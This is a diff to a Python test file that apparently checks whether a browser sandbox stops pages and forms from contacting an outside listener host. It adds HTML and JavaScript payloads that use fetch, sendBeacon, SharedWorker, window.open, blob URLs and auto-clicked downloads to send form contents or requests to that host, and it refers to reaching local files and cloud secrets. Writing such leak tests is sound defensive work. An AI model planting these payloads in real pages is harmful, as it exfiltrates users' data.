@@ -36,6 +36,10 @@ QUIET = {
     "audio": '<audio preload=auto><source src="http://{there}/audio"></audio>',
     "track": '<video><track default src="http://{there}/track"></video>',
     "svg": '<svg><image href="http://{there}/svg"/></svg>',
+    "frame-redirect": '<iframe src="/to/frame-redirect"></iframe>',
+    "img-redirect": '<img src="/to/img-redirect">',
+    "shared-worker": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
+    '\'fetch("http://{there}/shared-worker", {{mode: "no-cors"}})\'])))</script>',
     "frame-refresh": "<iframe srcdoc='<meta http-equiv=refresh "
     'content="0;url=http://{there}/frame-refresh">\'></iframe>',
     "fetch": '<script>fetch("http://{there}/fetch").catch(() => 0)</script>',
@@ -78,6 +82,8 @@ QUIET = {
     "private": '<img src="http://10.0.0.1/">',
     "local-file": '<iframe src="file:///etc/hostname"></iframe>',
 }
+# Of them what the page's own site redirects there.
+REDIRECTED = ("frame-redirect", "img-redirect")
 # What Chromium asks for under no path of its own, of other hosts, or later than the test waits.
 WITHOUT_CONTROL = {
     *("preconnect", "dns-prefetch", "prerender", "manifest", "icon", "service-worker"),
@@ -103,9 +109,10 @@ def _to(place: str, status: int = 302) -> tuple:
     return status, {"Location": place}, ""
 
 
+REDIRECTS = (301, 302, 303, 307, 308)
 LEADING = {
-    "the page redirects": (_to(AWAY), THANKS),
-    "the page redirects for good": (_to(AWAY, 308), THANKS),
+    **{f"the page redirects by {status}": (_to(AWAY, status), THANKS) for status in REDIRECTS},
+    **{f"the answer redirects by {each}": (PLAIN_FORM, _to(AWAY, each)) for each in REDIRECTS},
     "the page redirects to the machine's other address": (_to("http://{other}/away"), THANKS),
     "the page redirects with a name before the host": (_to("http://{site}@{there}/away"), THANKS),
     "the page redirects without a scheme": (_to("//{there}/away"), THANKS),
@@ -118,9 +125,10 @@ LEADING = {
         THANKS,
     ),
     "a header refreshes the page": ((200, {"Refresh": f"0;url={AWAY}"}, "x"), THANKS),
-    "the answer redirects": (PLAIN_FORM, _to(AWAY)),
-    "the answer redirects the letter": (PLAIN_FORM, _to(AWAY, 307)),
-    "the answer redirects the letter for good": (PLAIN_FORM, _to(AWAY, 308)),
+    "a header wants to preload": (
+        (200, {"Link": f"<{AWAY}>; rel=preload; as=image"}, PLAIN_FORM[2]),
+        THANKS,
+    ),
     "the answer refreshes itself": (
         PLAIN_FORM,
         (200, {}, f"<meta http-equiv=refresh content='0;url={AWAY}'>"),
@@ -132,7 +140,7 @@ LEADING = {
     "a base leads away": (_form("away", before="<base href=http://{there}/>"), THANKS),
     "the form goes into a window": (_form(AWAY, button="formtarget=_blank"), THANKS),
     "the form is a script": (_form("javascript:location='http://{there}/away'"), THANKS),
-    "the form is data": (_form("data:text/html,x"), THANKS),
+    "the form is data": (_form("data:text/html,&lt;img/src=http://{there}/away&gt;"), THANKS),
     "the form is sent by mail": (_form("mailto:a@{there}"), THANKS),
 }
 # What only a browser is led by.
@@ -140,6 +148,37 @@ BY_SCRIPT = {
     "a script leads away": ((200, {}, f"<script>location = '{AWAY}'</script>"), THANKS),
     "a script sends the form elsewhere": (
         _form(button=f"onclick=\"this.form.action='{AWAY}'\""),
+        THANKS,
+    ),
+    "a script posts the letter elsewhere": (
+        _form(
+            button=f"onclick=\"fetch('{AWAY}', {{{{method: 'POST', mode: 'no-cors', "
+            'body: new FormData(this.form), keepalive: true}})"'
+        ),
+        THANKS,
+    ),
+    "a script tells the letter as the page goes": (
+        _form(
+            before="<script>addEventListener('pagehide', () => navigator.sendBeacon("
+            f"'{AWAY}', new FormData(document.forms[0])))</script>"
+        ),
+        THANKS,
+    ),
+    "a script opens a window with the letter": (
+        _form(button=f"onclick=\"window.open('{AWAY}?' + this.form.message.value)\""),
+        THANKS,
+    ),
+    "a script clicks on a download": (
+        _form(before=f"<a id=d download href={AWAY}>x</a><script>d.click()</script>"),
+        THANKS,
+    ),
+    "a script leads to a blob": (
+        (
+            200,
+            {},
+            f"<script>location = URL.createObjectURL(new Blob(['<img src={AWAY}>'], "
+            "{{type: 'text/html'}}))</script>",
+        ),
         THANKS,
     ),
     "a frame leads the whole page away": (
@@ -157,8 +196,14 @@ BY_SCRIPT = {
     ),
     "the answer is a download": (
         PLAIN_FORM,
-        (200, {"Content-Disposition": "attachment"}, "x"),
+        (200, {"Content-Disposition": "attachment"}, f"<img src={AWAY}>"),
     ),
+}
+# What Chromium itself refuses, or what would lead elsewhere than to the listener.
+LEADING_NOWHERE = {
+    *("the page redirects to a file", "the page redirects to data", "the form is data"),
+    *("the page redirects to the cloud's secrets", "the form is sent by mail"),
+    "the answer is a download",
 }
 # Where a recipe itself would lead.
 VISITS = (
